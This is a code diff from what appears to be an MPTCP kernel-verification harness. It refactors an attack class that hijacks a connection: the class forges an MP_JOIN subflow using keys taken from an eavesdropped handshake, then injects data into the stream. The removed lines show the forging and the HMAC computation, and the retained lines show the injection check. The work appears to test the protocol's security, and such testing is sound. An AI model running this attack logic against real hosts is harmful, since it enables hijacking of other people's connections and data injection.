@@ -9,7 +9,6 @@ import java.util.Map;
 import java.util.Optional;
 import java.util.OptionalInt;
 import java.util.OptionalLong;
-import org.mptcpverify.crypto.MptcpCrypto;
 import org.mptcpverify.vocab.AttackId;
 import org.mptcpverify.wire.Bytes;
 import org.mptcpverify.wire.MptcpOption;
@@ -35,55 +34,19 @@ public final class EavesdropHandshake implements KernelAttack {
     public boolean run(AttackContext ctx) throws IOException {
         CapturedConnection c = ctx.connection();
         Wiretap tap = ctx.tap();
-        var rnd = ctx.random();
-        int port = 40_000 + rnd.nextInt(20_000);
-        long isn = rnd.nextLong() & 0xffffffffL;
-        int randomA = rnd.nextInt();
         if (c.checksumRequired()) {
             ctx.note("connection negotiated DSS checksums; this attacker does not compute them");
             return false;
         }
         ctx.note(String.format("attacker: token of the server key = %08x (from the captured third ACK)",
                 c.serverToken()));
-
-        int mark = tap.size();
-        TcpSegment syn = new TcpSegment(Topology.FORGED, c.server(), port, c.serverPort(), isn, 0, TcpSegment.SYN,
-                Forge.WINDOW, List.of(Forge.mss(1460),
-                        Forge.mptcp(new MptcpOption.MpJoinSyn(0, ADDRESS_ID, c.serverToken(), randomA))),
-                Bytes.empty());
-        tap.send(Topology.SERVER_MAC, syn);
-        Optional<Wiretap.Seen> reply = tap.await(mark, t -> toAttacker(t, port), 2_000);
-        if (reply.isEmpty()) {
-            ctx.note("server kernel: no reply to SYN + MP_JOIN within 2 s");
+        Optional<ForgedJoin.Joined> joined = ForgedJoin.toServer(ctx, c, ADDRESS_ID);
+        if (joined.isEmpty()) {
             return false;
         }
-        TcpSegment synAck = reply.get().segment();
-        Optional<MptcpOption.MpJoinSynAck> join = CapturedConnection.option(synAck, MptcpOption.MpJoinSynAck.class);
-        if (!synAck.has(TcpSegment.SYN) || join.isEmpty()) {
-            ctx.note("server kernel answered SYN + MP_JOIN with flags 0x" + Integer.toHexString(synAck.flags())
-                    + " options " + synAck.options());
-            return false;
-        }
-        long expected = MptcpCrypto.joinSynAckHmac(c.hash(), c.serverKey(), c.clientKey(),
-                join.get().senderRandom(), randomA);
-        ctx.note("server kernel: SYN/ACK + MP_JOIN, truncated HMAC-B "
-                + (MptcpCrypto.constantTimeEquals(expected, join.get().truncatedHmac())
-                ? "equals the one computed from the captured keys" : "DIFFERS from the one computed from the captured keys"));
-
-        Bytes hmacA = MptcpCrypto.joinAckHmac(c.hash(), c.clientKey(), c.serverKey(), randomA, join.get().senderRandom());
-        long seq = (isn + 1) & 0xffffffffL;
-        long ack = (synAck.seq() + 1) & 0xffffffffL;
-        mark = tap.size();
-        tap.send(Topology.SERVER_MAC, new TcpSegment(Topology.FORGED, c.server(), port, c.serverPort(), seq, ack,
-                TcpSegment.ACK, Forge.WINDOW, List.of(Forge.mptcp(new MptcpOption.MpJoinAck(hmacA))), Bytes.empty()));
-        // RFC 8684 3.2: the joining host waits for the listener's ACK of the third ACK.
-        Optional<Wiretap.Seen> fourth = tap.await(mark, t -> toAttacker(t, port), 1_000);
-        if (fourth.isPresent() && fourth.get().segment().has(TcpSegment.RST)) {
-            ctx.note("server kernel reset the subflow after the third ACK: " + fourth.get().segment().options());
-            return false;
-        }
-        ctx.note("server kernel: " + (fourth.isPresent() ? "ACKed the third ACK (subflow established)"
-                : "no ACK of the third ACK within 1 s"));
+        int port = joined.get().port();
+        long seq = joined.get().seq();
+        long ack = joined.get().ack();
 
         long dsn = c.clientNextDsn();
         ctx.note("attacker: data sequence number = IDSN(client key) + 1 + " + c.fromClient().dataBytes()
@@ -116,10 +79,6 @@ public final class EavesdropHandshake implements KernelAttack {
         boolean injected = got.isPresent() && Arrays.equals(stream, expectedStream);
         boolean accepted = delta.getOrDefault("MPTcpExtMPJoinAckRx", 0L) >= 1 && subflows >= 1;
         return injected && accepted;
-    }
-
-    private static boolean toAttacker(TcpSegment t, int port) {
-        return t.dst().equals(Topology.FORGED) && t.dstPort() == port;
     }
 
     static byte[] concat(byte[] a, byte[] b) {
